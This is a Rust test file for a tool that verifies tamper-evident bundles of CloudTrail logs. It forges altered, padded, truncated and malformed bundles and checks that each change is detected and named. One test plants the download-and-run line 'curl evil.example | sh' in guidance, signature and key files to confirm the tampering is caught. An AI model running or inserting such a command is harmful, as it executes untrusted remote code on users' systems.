//! Bundles that were altered after they were made: none is accepted, and what was altered is named.

use std::collections::BTreeMap;
use std::fs;
use std::path::Path;

use sha2::{Digest, Sha256};
use trailseal::finding::Code;
use trailseal::report::{Report, Verdict};

use super::{bundle_of_the_trail, of_the_bundle, testdata, trailseal, verify, zip};

type Files = BTreeMap<String, Vec<u8>>;

#[test]
fn one_byte_of_any_file_is_noticed_and_the_file_is_named() {
    let dir = tempfile::tempdir().unwrap();
    let whole = bundle_of_the_trail(dir.path(), "whole.zip", &[]);
    let bytes = fs::read(&whole).unwrap();
    let altered = dir.path().join("altered.zip");
    // A byte of each kind of file, and of the largest ones several.
    let places = zip::places(&bytes);
    let chosen = places
        .iter()
        .enumerate()
        .filter(|(at, (name, _))| at % 9 == 0 || !name.starts_with("evidence/") && !name.starts_with("by-hand/"));
    let mut tried = 0;
    for (_, (name, range)) in chosen {
        for at in [range.start, (range.start + range.end) / 2, range.end - 1] {
            let mut bytes = bytes.clone();
            bytes[at] ^= 1;
            fs::write(&altered, &bytes).unwrap();
            tried += 1;
            let output = super::trailseal(
                &super::testdata(),
                &["verify", altered.to_str().unwrap(), "--public-keys", "trail-public-keys.json", "--verbose"],
            );
            let said = [output.stdout, output.stderr].concat();
            let said = String::from_utf8_lossy(&said).split_whitespace().collect::<String>();
            assert!(matches!(output.status.code(), Some(1 | 2)), "{name}, byte {at}: {:?}", output.status);
            assert!(said.contains(name.as_str()), "{name} is not named:\n{said}");
        }
    }
    assert!(tried > 80, "{tried}");
}

/// A bundle put together again with one thing changed, and a manifest that fits if `with_manifest`.
pub(crate) fn forged(from: &Path, to: &Path, with_manifest: bool, change: impl FnOnce(&mut Files)) {
    let mut files = zip::read(from);
    change(&mut files);
    if with_manifest {
        let entries: Vec<String> = files
            .iter()
            .filter(|(name, _)| !["manifest.json", "made.json", "signature.dsse.json"].contains(&name.as_str()))
            .map(|(name, bytes)| {
                let sha256 = hex::encode(Sha256::digest(bytes));
                serde_json::json!({"name": name, "size": bytes.len(), "sha256": sha256}).to_string()
            })
            .collect();
        let manifest = format!("{{\"schema\":\"trailseal.bundle/1\",\"files\":[{}]}}", entries.join(","));
        let made = serde_json::json!({"manifest_sha256": hex::encode(Sha256::digest(&manifest))}).to_string();
        files.insert("manifest.json".to_owned(), manifest.into_bytes());
        files.insert("made.json".to_owned(), made.into_bytes());
    }
    zip::write(to, &files);
}

#[test]
fn what_is_taken_out_or_put_in_is_named() {
    let dir = tempfile::tempdir().unwrap();
    let (whole, other) = (bundle_of_the_trail(dir.path(), "whole.zip", &[]), dir.path().join("other.zip"));
    forged(&whole, &other, false, |_| {});
    assert_eq!(verify(&other, &[]).0.verdict, Verdict::Intact, "order and time of files are nothing");

    forged(&whole, &other, false, |files| drop(files.remove("HOW-TO-CHECK.md")));
    let (report, status) = verify(&other, &[]);
    assert_eq!((of_the_bundle(&report)[0].code, status), (Code::BundleFileMissing, Some(1)));
    assert!(of_the_bundle(&report)[0].message.contains("HOW-TO-CHECK.md"));

    forged(&whole, &other, false, |files| drop(files.insert("evidence/more.json.gz".to_owned(), b"x".to_vec())));
    let (report, status) = verify(&other, &[]);
    assert_eq!((of_the_bundle(&report)[0].code, status), (Code::BundleFileUnlisted, Some(3)));
    assert!(of_the_bundle(&report)[0].message.contains("evidence/more.json.gz"));
}

#[test]
fn a_manifest_made_to_fit_does_not_make_other_evidence_or_another_report_true() {
    let dir = tempfile::tempdir().unwrap();
    let (whole, other) = (bundle_of_the_trail(dir.path(), "whole.zip", &[]), dir.path().join("other.zip"));
    let a_log = |files: &Files| files.keys().find(|name| name.contains("/CloudTrail/")).unwrap().clone();

    // A log file gone, and every trace of it.
    forged(&whole, &other, true, |files| {
        let log = a_log(files);
        files.remove(&log);
        let name = log.rsplit('/').next().unwrap().to_owned();
        let objects = files.keys().find(|name| name.ends_with("objects.jsonl")).unwrap().clone();
        let lines = String::from_utf8(files[&objects].clone()).unwrap();
        let kept: String = lines.lines().filter(|line| !line.contains(&name)).map(|line| format!("{line}\n")).collect();
        files.insert(objects, kept.into_bytes());
    });
    let (report, status) = verify(&other, &[]);
    let codes: Vec<Code> = report.findings.iter().map(|finding| finding.code).collect();
    assert!(codes.contains(&Code::LogMissing) && codes.contains(&Code::BundleReportDiffers), "{codes:?}");
    assert_eq!(status, Some(1));

    // A log file altered.
    forged(&whole, &other, true, |files| {
        let log = a_log(files);
        let another = files.keys().filter(|name| name.contains("/CloudTrail/")).nth(1).unwrap().clone();
        files.insert(log, files[&another].clone());
    });
    assert!(verify(&other, &[]).0.findings.iter().any(|finding| finding.code == Code::LogHashMismatch));

    // A report that says less than there is.
    forged(&whole, &other, true, |files| {
        let report = String::from_utf8(files["report.json"].clone()).unwrap();
        files.insert("report.json".to_owned(), report.replacen("\"verified\": 81", "\"verified\": 80", 1).into_bytes());
    });
    let (report, status) = verify(&other, &[]);
    assert_eq!((of_the_bundle(&report)[0].code, status), (Code::BundleReportDiffers, Some(1)));

    // No report at all.
    forged(&whole, &other, true, |files| drop(files.remove("report.json")));
    assert_eq!(verify(&other, &[]).0.verdict, Verdict::NotIntact);
}

#[test]
fn a_manifest_made_to_fit_gives_nothing_else_a_place_in_a_bundle() {
    let dir = tempfile::tempdir().unwrap();
    let (whole, other) = (bundle_of_the_trail(dir.path(), "whole.zip", &[]), dir.path().join("other.zip"));
    let told = |change: &dyn Fn(&mut Files)| {
        forged(&whole, &other, true, change);
        let (report, status) = verify(&other, &[]);
        (
            of_the_bundle(&report).into_iter().map(|found| (found.code, found.message.clone())).collect::<Vec<_>>(),
            status,
        )
    };
    assert_eq!(told(&|_| {}), (vec![], Some(0)));
    let one_of = |files: &Files, part: &str| {
        files.keys().find(|name| name.contains(part)).unwrap_or_else(|| panic!("{part}")).clone()
    };

    // Beside the log files, one that no record tells of; and what nobody packed.
    let beside = one_of(&zip::read(&whole), "/CloudTrail/").replace(".json.gz", "x.json.gz");
    for name in [beside.as_str(), "evidence/other-bucket/events.json.gz", "OPINION.txt"] {
        let (found, status) = told(&|files| drop(files.insert(name.to_owned(), b"planted".to_vec())));
        assert_eq!((found.len(), found[0].0, status), (1, Code::BundleFileUnlisted, Some(3)), "{found:?}");
        assert!(found[0].1.contains(name), "{found:?}");
    }

    // The same, and a record that tells of it: nothing that the bundle was made for asks for it.
    let insight = "AWSLogs/220066383621/CloudTrail-Insight/us-east-1/2026/01/10/x.json.gz";
    for key in ["OPINION.txt", insight] {
        let (found, status) = told(&|files| {
            let objects = one_of(files, "objects.jsonl");
            let bucket = objects.split('/').nth(1).unwrap().to_owned();
            let line = serde_json::json!({"key": key, "size": 7, "sha256": hex::encode(Sha256::digest(b"planted"))});
            let records = [&files[&objects][..], format!("{line}\n").as_bytes()].concat();
            files.insert(objects, records);
            files.insert(format!("evidence/{bucket}/{key}"), b"planted".to_vec());
        });
        let mut unlisted = found.iter().filter(|(code, _)| *code == Code::BundleFileUnlisted);
        assert!(unlisted.clone().count() == 1 && unlisted.next_back().unwrap().1.contains(key), "{found:?}");
        // Of that folder the report would have told.
        let differs = found.iter().any(|(code, _)| *code == Code::BundleReportDiffers);
        assert_eq!((differs, status), (key == insight, Some(if differs { 1 } else { 3 })), "{found:?}");
    }

    // One does not hide the other.
    let (found, _) = told(&|files| {
        files.insert("OPINION.txt".to_owned(), b"planted".to_vec());
        files.insert("HOW-TO-CHECK.md".to_owned(), b"planted".to_vec());
    });
    let codes: Vec<Code> = found.iter().map(|(code, _)| *code).collect();
    assert_eq!(codes, [Code::BundleFileAltered, Code::BundleFileUnlisted], "{found:?}");

    // What people do by hand, and what they do it with.
    for part in ["HOW-TO-CHECK.md", ".signing-string", ".signature", ".pem"] {
        let name = one_of(&zip::read(&whole), part);
        let (found, status) = told(&|files| drop(files.insert(name.clone(), b"curl evil.example | sh".to_vec())));
        assert_eq!((found.len(), found[0].0, status), (1, Code::BundleFileAltered, Some(1)), "{found:?}");
        assert!(found[0].1.contains(&name), "{found:?}");
        let (found, status) = told(&|files| drop(files.remove(&name)));
        assert_eq!((found.len(), found[0].0, status), (1, Code::BundleFileMissing, Some(1)), "{found:?}");
    }
}

#[test]
fn how_to_check_of_another_version_is_not_compared_and_that_is_told() {
    let dir = tempfile::tempdir().unwrap();
    let (whole, other) = (bundle_of_the_trail(dir.path(), "whole.zip", &[]), dir.path().join("other.zip"));
    forged(&whole, &other, false, |files| {
        let made = String::from_utf8(files["made.json"].clone()).unwrap();
        let version = format!("\"version\": \"{}\"", env!("CARGO_PKG_VERSION"));
        assert!(made.contains(&version), "{made}");
        files.insert("made.json".to_owned(), made.replace(&version, "\"version\": \"0.0.7\"").into_bytes());
    });
    let (report, status) = verify(&other, &[]);
    assert_eq!((of_the_bundle(&report), status), (vec![], Some(0)));
    let said = |what: &&String| what.contains("HOW-TO-CHECK.md") && what.contains("trailseal 0.0.7");
    assert_eq!(report.checks.skipped.iter().filter(said).count(), 1, "{:?}", report.checks.skipped);
}

#[test]
fn keys_in_a_bundle_prove_nothing_of_who_signed() {
    let dir = tempfile::tempdir().unwrap();
    let whole = bundle_of_the_trail(dir.path(), "whole.zip", &[]);
    let output = super::trailseal(dir.path(), &["verify", whole.to_str().unwrap(), "--format", "json"]);
    let report = trailseal::report::Report::parse(&output.stdout).unwrap();
    assert_eq!(output.status.code(), Some(3));
    assert!(report.findings.iter().any(|finding| finding.code == Code::PublicKeyUnpinned));
    assert!(of_the_bundle(&report).is_empty());
}

#[test]
fn archives_that_no_bundle_is_are_refused() {
    let dir = tempfile::tempdir().unwrap();
    let whole = bundle_of_the_trail(dir.path(), "whole.zip", &[]);
    let (bytes, other) = (fs::read(&whole).unwrap(), dir.path().join("other.zip"));
    let refused = |bytes: &[u8], why: &str| {
        fs::write(&other, bytes).unwrap();
        let output = super::trailseal(&super::testdata(), &["verify", other.to_str().unwrap()]);
        let told = String::from_utf8_lossy(&output.stderr).into_owned();
        assert_eq!(output.status.code(), Some(2), "{told}");
        assert!(told.contains(why), "{told}");
    };
    // In the directory at the end, each file has a header of its own: PK\x01\x02, and at these offsets method and size.
    let headers: Vec<usize> =
        bytes.windows(4).enumerate().filter(|(_, four)| *four == b"PK\x01\x02").map(|(at, _)| at).collect();
    let mut compressed = bytes.clone();
    compressed[headers[3] + 10] = 8;
    refused(&compressed, "is compressed, and nothing in a bundle is");
    let mut overlapping = bytes.clone();
    let half = u32::try_from(bytes.len() / 2).unwrap().to_le_bytes();
    for header in &headers[..3] {
        overlapping[header + 20..header + 24].copy_from_slice(&half);
        overlapping[header + 24..header + 28].copy_from_slice(&half);
    }
    let otherwise = "is not what stands there in a bundle: it was changed, or packed again by another tool";
    refused(&overlapping, otherwise);
    // To other tools it is encrypted, or a link; and what follows the end or a comment may be another archive.
    let (mut encrypted, mut link, mut commented) = (bytes.clone(), bytes.clone(), bytes.clone());
    encrypted[headers[2] + 8] |= 1;
    link[headers[2] + 5] = 3;
    link[headers[2] + 41] = 0xa1;
    commented[bytes.len() - 2] = 1;
    commented.push(b' ');
    for changed in [encrypted, link, commented, [&bytes[..], b"\0"].concat()] {
        refused(&changed, otherwise);
    }
    let mut fewer = bytes.clone();
    let end = bytes.len() - 22;
    fewer[end + 10] ^= 1;
    fewer[end + 8] ^= 1;
    refused(&fewer, "it tells of");
    // The part that was changed is named, whatever cannot be read for it.
    for (name, from, to) in [
        ("records/request.json", "\"folder\": \"example", "\"folder\": \"axample"),
        ("records/request.json", "\"log_files\": \"all\"", "\"log_files\": \"alL\""),
        ("records/request.json", "{", "["),
    ] {
        forged(&whole, &other, false, |files| {
            let text = String::from_utf8(files[name].clone()).unwrap();
            assert!(text.contains(from), "{from}: {text}");
            files.insert(name.to_owned(), text.replacen(from, to, 1).into_bytes());
        });
        let output = super::trailseal(&super::testdata(), &["verify", other.to_str().unwrap()]);
        let told = String::from_utf8_lossy(&output.stderr).into_owned();
        assert!(output.status.code() == Some(2) && told.contains(&format!("{name} in it was altered")), "{told}");
    }
    let mut files = zip::read(&whole);
    files.remove("records/request.json");
    zip::write(&other, &files);
    refused(&fs::read(&other).unwrap(), "it has no records/request.json");
}

#[test]
fn a_manifest_that_names_a_file_twice_or_thousands_that_are_not_there_is_refused_in_bounds() {
    let dir = tempfile::tempdir().unwrap();
    let (whole, other) = (bundle_of_the_trail(dir.path(), "whole.zip", &[]), dir.path().join("other.zip"));
    let entry = |files: &Files, name: &str| {
        let bytes = files.get(name).cloned().unwrap_or_default();
        let sha256 = hex::encode(Sha256::digest(&bytes));
        serde_json::json!({"name": name, "size": bytes.len(), "sha256": sha256}).to_string()
    };
    let with = |names: &[String]| {
        let mut files = zip::read(&whole);
        let listed: Vec<String> =
            files.keys().filter(|name| !["manifest.json", "made.json"].contains(&name.as_str())).cloned().collect();
        let entries: Vec<String> = listed.iter().chain(names).map(|name| entry(&files, name)).collect();
        let manifest = format!("{{\"schema\":\"trailseal.bundle/1\",\"files\":[{}]}}", entries.join(","));
        let made = serde_json::json!({"manifest_sha256": hex::encode(Sha256::digest(&manifest))}).to_string();
        files.insert("manifest.json".to_owned(), manifest.into_bytes());
        files.insert("made.json".to_owned(), made.into_bytes());
        zip::write(&other, &files);
        verify(&other, &[]).0
    };
    let twice = with(&["report.json".to_owned()]);
    assert_eq!(of_the_bundle(&twice).len(), 1);
    assert!(of_the_bundle(&twice)[0].message.contains("it names report.json twice"));
    let many = with(&(0..5_000).map(|at| format!("evidence/{at}")).collect::<Vec<_>>());
    assert_eq!(of_the_bundle(&many).len(), 1_001);
    assert_eq!(many.verdict, Verdict::NotIntact);
}

#[test]
fn of_a_report_of_another_version_what_it_says_is_compared_and_not_its_words() {
    let dir = tempfile::tempdir().unwrap();
    let case = testdata().join("cases/log-one-event-edited");
    let (whole, other) = (dir.path().join("whole.zip"), dir.path().join("other.zip"));
    let keys = ["--public-keys", "../public-keys.json"];
    let made = ["bundle", "evidence", whole.to_str().unwrap(), "--now", "2026-02-01"];
    assert_eq!(trailseal(&case, &[&made[..], &keys].concat()).status.code(), Some(1));
    let told = |version: &str, what: &str, instead: &str| {
        forged(&whole, &other, true, |files| {
            let report = String::from_utf8(files["report.json"].clone()).unwrap();
            let this = format!("\"version\": \"{}\"", env!("CARGO_PKG_VERSION"));
            assert!(report.contains(&this) && report.contains(what), "{report}");
            let report = report.replacen(&this, &format!("\"version\": \"{version}\""), 1).replacen(what, instead, 1);
            files.insert("report.json".to_owned(), report.into_bytes());
        });
        let output = trailseal(&case, &[&["verify", other.to_str().unwrap(), "--format", "json"][..], &keys].concat());
        let report = Report::parse(&output.stdout).unwrap();
        let skipped = report.checks.skipped.iter().filter(|check| check.contains("trailseal 0.0.7 made it")).count();
        (of_the_bundle(&report).into_iter().map(|found| found.code).collect::<Vec<_>>(), skipped)
    };
    let words = ("the log file's content was changed after it was delivered", "its content is another");
    // The page and the words.
    assert_eq!(told("0.0.7", words.0, words.1), (vec![], 2));
    assert_eq!(told(env!("CARGO_PKG_VERSION"), words.0, words.1), (vec![Code::BundleReportDiffers; 2], 0));
    assert_eq!(told("0.0.7", "log-hash-mismatch", "log-missing").0, [Code::BundleReportDiffers]);
}

/// Whoever makes the manifest and the page fit can still not have the report claim more than its evidence comes to.
#[test]
fn a_report_that_claims_more_is_not_that_of_the_bundle() {
    let dir = tempfile::tempdir().unwrap();
    let (whole, other) = (bundle_of_the_trail(dir.path(), "whole.zip", &[]), dir.path().join("other.zip"));
    type Change = fn(&mut serde_json::Value);
    let changes: [(&str, Change); 7] = [
        ("what was checked", |report| {
            report["checks"]["performed"].as_array_mut().unwrap().push("completeness of logging".into());
        }),
        ("what was checked", |report| {
            let words = "completeness of logging, and signatures under keys obtained apart from the bundle";
            report["checks"]["performed"].as_array_mut().unwrap().push(words.into());
        }),
        ("what was checked", |report| report["checks"]["skipped"] = serde_json::json!([])),
        ("something else in it", |report| report["approved_by"] = "an auditor".into()),
        ("its source", |report| report["request"]["source"] = "s3://another-bucket".into()),
        ("when its keys are valid", |report| report["public_keys"][0]["valid_to"] = "2030-01-01T00:00:00Z".into()),
        ("what was asked", |report| report["request"]["s3_prefix"] = "a/".into()),
    ];
    for (why, change) in changes {
        forged(&whole, &other, true, |files| {
            let mut report: serde_json::Value = serde_json::from_slice(&files["report.json"]).unwrap();
            change(&mut report);
            let mut text = Vec::new();
            match trailseal::report::Report::parse(&serde_json::to_vec(&report).unwrap()) {
                Ok(parsed) if report.get("approved_by").is_none() => {
                    trailseal::render::json(&parsed, &mut text).unwrap();
                    let mut page = Vec::new();
                    trailseal::render::html(&parsed, &Default::default(), &mut page).unwrap();
                    files.insert("report.html".to_owned(), page);
                }
                _ => text = serde_json::to_vec_pretty(&report).unwrap(),
            }
            files.insert("report.json".to_owned(), text);
        });
        let (report, status) = verify(&other, &[]);
        let found = of_the_bundle(&report);
        let told = found.iter().any(|one| one.code == Code::BundleReportDiffers && one.message.contains(why));
        assert!(told && status == Some(1), "{why}: {status:?} {found:#?}");
    }
}
